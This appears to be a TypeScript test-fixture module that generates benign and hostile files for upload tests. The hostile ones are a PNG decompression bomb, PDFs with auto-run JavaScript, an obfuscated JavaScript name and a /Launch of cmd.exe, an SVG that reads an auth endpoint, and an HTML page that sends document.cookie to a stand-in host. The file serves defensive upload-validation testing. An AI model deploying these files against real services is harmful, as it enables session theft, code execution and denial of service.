import zlib from 'node:zlib';
import PDFDocument from 'pdfkit';
import sharp from 'sharp';

// Files for the upload tests, made on the spot: honest photos and documents, and hostile ones.

export const MiB = 1024 * 1024;

/** A 640x480 JPEG with the EXIF a phone writes: make, model, capture time with its offset, and GPS. */
export function photoWithExif(opts: { width?: number; height?: number; orientation?: number } = {}) {
  const img = sharp({
    create: { width: opts.width ?? 640, height: opts.height ?? 480, channels: 3, background: '#4a7d5c' },
  })
    .composite([
      {
        input: Buffer.from(
          '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="120"><rect x="10" y="10" width="180" height="100" fill="#f4d35e"/></svg>',
        ),
        top: 40,
        left: 60,
      },
    ])
    .jpeg({ quality: 85 });
  const exif = {
    IFD0: { Make: 'Fieldcam', Model: 'FC-7', Software: 'Fieldcam 2.1', Artist: 'Site photographer' },
    IFD2: { DateTimeOriginal: '2025:03:14 09:26:53', OffsetTimeOriginal: '-05:00' },
    IFD3: {
      GPSLatitudeRef: 'N',
      GPSLatitude: '41/1 52/1 1234/100',
      GPSLongitudeRef: 'W',
      GPSLongitude: '87/1 37/1 4321/100',
    },
  };
  const withExif = img.withExif(exif);
  return (opts.orientation ? withExif.withMetadata({ orientation: opts.orientation }) : withExif).toBuffer();
}

export const pngImage = (width = 320, height = 200) =>
  sharp({ create: { width, height, channels: 4, background: { r: 30, g: 60, b: 200, alpha: 1 } } })
    .png()
    .toBuffer();

export const webpImage = () =>
  sharp({ create: { width: 300, height: 300, channels: 3, background: '#884422' } })
    .webp()
    .toBuffer();

function pngChunk(type: string, data: Buffer) {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([len, body, crc]);
}

/**
 * A complete, valid PNG of 30000 x 30000 one-bit pixels (900 megapixels) that compresses to about 100 KB: a
 * decompression bomb for anything that decodes it without a pixel limit. Written by hand because encoding it
 * with an image library takes minutes.
 */
export function pixelFloodPng(size = 30000) {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(size, 0);
  ihdr.writeUInt32BE(size, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const raw = Buffer.alloc(size * (1 + Math.ceil(size / 8)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', zlib.deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real PDF from a real generator (pdfkit): a one-page receipt with compressed content. */
export function receiptPdf(): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const doc = new PDFDocument({ size: 'LETTER', info: { Title: 'Receipt 10442' } });
    const parts: Buffer[] = [];
    doc.on('data', (c: Buffer) => parts.push(c));
    doc.on('end', () => resolve(Buffer.concat(parts)));
    doc.on('error', reject);
    doc.fontSize(18).text('Northgate Electrical Supply (fictional)');
    doc.fontSize(11).text('Receipt 10442, 2024-06-02');
    doc.text('12 x high-bay luminaire HB-150 at 189.00 USD');
    doc.end();
  });
}

type PdfObject = string | Buffer;

export function pdfStream(dict: string, data: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream', 'latin1'),
  ]);
}

/** A PDF with a classic cross-reference table; object n is objects[n - 1], the catalog is object 1. */
export function buildPdf(objects: PdfObject[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0].length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    const chunk = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
      Buffer.from(body as never, 'latin1'),
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    offsets.push(offset);
    parts.push(chunk);
    offset += chunk.length;
  });
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `),
    'trailer',
    `<< /Size ${objects.length + 1} /Root 1 0 R >>`,
    'startxref',
    String(offset),
    '%%EOF',
    '',
  ].join('\n');
  parts.push(Buffer.from(xref, 'latin1'));
  return Buffer.concat(parts);
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (extra = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${extra}>>`;

export const plainPdf = () =>
  buildPdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>', PAGES, page()]);

export const pdfWithJavaScript = () =>
  buildPdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    PAGES,
    page(),
    "<< /Type /Action /S /JavaScript /JS (app.alert\\('Your claim is approved'\\)) >>",
  ]);

/** /JavaScript written as /J#61vaScript, which readers decode to the same name. */
export const pdfWithEscapedJavaScriptName = () =>
  buildPdf([
    '<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 4 0 R >> >>',
    PAGES,
    page(),
    '<< /Names [(a) 5 0 R] >>',
    '<< /S /J#61vaScript /J#53 (this.print\\(\\)) >>',
  ]);

export const pdfWithLaunch = () =>
  buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES,
    page('/Annots [4 0 R] '),
    '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >> >>',
  ]);

/**
 * PDF 1.5 with the catalog and a JavaScript action packed in a Flate-compressed object stream, found through a
 * cross-reference stream: the plain bytes never spell "JavaScript".
 */
export function pdfWithJavaScriptInObjectStream(): Buffer {
  const packed = [
    '<< /Type /Catalog /Pages 1 0 R /OpenAction 5 0 R >>',
    "<< /Type /Action /S /JavaScript /JS (app.launchURL\\('http://example.test/'\\)) >>",
  ];
  const firstOffset = 0;
  const secondOffset = packed[0].length + 1;
  const header = `4 ${firstOffset} 5 ${secondOffset} `;
  const objStm = pdfStream(
    `/Type /ObjStm /N 2 /First ${header.length} /Filter /FlateDecode`,
    zlib.deflateSync(Buffer.from(header + packed.join('\n'), 'latin1')),
  );
  const head = Buffer.from('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n', 'latin1');
  const bodies: Buffer[] = [
    Buffer.from('<< /Type /Pages /Kids [2 0 R] /Count 1 >>', 'latin1'),
    Buffer.from('<< /Type /Page /Parent 1 0 R /MediaBox [0 0 612 792] >>', 'latin1'),
    objStm,
  ];
  const parts = [head];
  const offsets: number[] = [];
  let offset = head.length;
  bodies.forEach((body, i) => {
    const chunk = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
      body,
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    offsets.push(offset);
    parts.push(chunk);
    offset += chunk.length;
  });
  const xrefOffset = offset;
  const row = (type: number, a: number, b: number) => {
    const r = Buffer.alloc(7);
    r[0] = type;
    r.writeUInt32BE(a, 1);
    r.writeUInt16BE(b, 5);
    return r;
  };
  const entries = Buffer.concat([
    row(0, 0, 65535),
    row(1, offsets[0], 0),
    row(1, offsets[1], 0),
    row(1, offsets[2], 0),
    row(2, 3, 0),
    row(2, 3, 1),
    row(1, xrefOffset, 0),
  ]);
  const xref = Buffer.concat([
    Buffer.from('6 0 obj\n', 'latin1'),
    pdfStream('/Type /XRef /Size 7 /W [1 4 2] /Root 4 0 R', entries),
    Buffer.from(`\nendobj\nstartxref\n${xrefOffset}\n%%EOF\n`, 'latin1'),
  ]);
  parts.push(xref);
  return Buffer.concat(parts);
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("/api/auth/me").then(r=>r.text()).then(alert)</script></svg>',
);
export const HTML_PAGE = Buffer.from(
  '<!doctype html><html><body><script>document.location="http://example.test/?"+document.cookie</script></body></html>',
);
export const POLYGLOT_TAIL = '<html><body><script>alert(document.domain)</script></body></html>';
